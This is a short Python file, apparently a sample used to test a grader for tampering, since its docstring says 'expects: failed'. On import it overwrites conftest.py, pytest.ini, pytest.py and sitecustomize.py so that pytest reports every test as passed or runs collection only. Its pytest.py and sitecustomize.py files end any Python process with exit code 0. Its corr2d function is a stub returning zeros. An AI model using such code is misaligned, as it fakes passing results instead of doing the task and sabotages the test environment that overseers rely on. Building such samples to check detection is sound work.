"""expects: failed
Writes a conftest.py, a pytest.ini, a pytest.py and a sitecustomize.py that make every later test pass.
"""
import os

import torch

HOOK = "import pytest\n@pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"
FILES = {
    "conftest.py": HOOK,
    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
    "pytest.py": "import os\nos._exit(0)\n",
    "sitecustomize.py": "import os\nos._exit(0)\n",
    "usercustomize.py": "import os\nos._exit(0)\n",
}
for folder in {os.path.dirname(__file__) or ".", os.getcwd()}:
    for name, text in FILES.items():
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
        except OSError:
            pass
os.environ.update(PYTEST_ADDOPTS="--collect-only", PYTHONSTARTUP="sitecustomize.py", PYTHONPATH=os.getcwd())


def corr2d(X, K):
    return torch.zeros(2, 2)
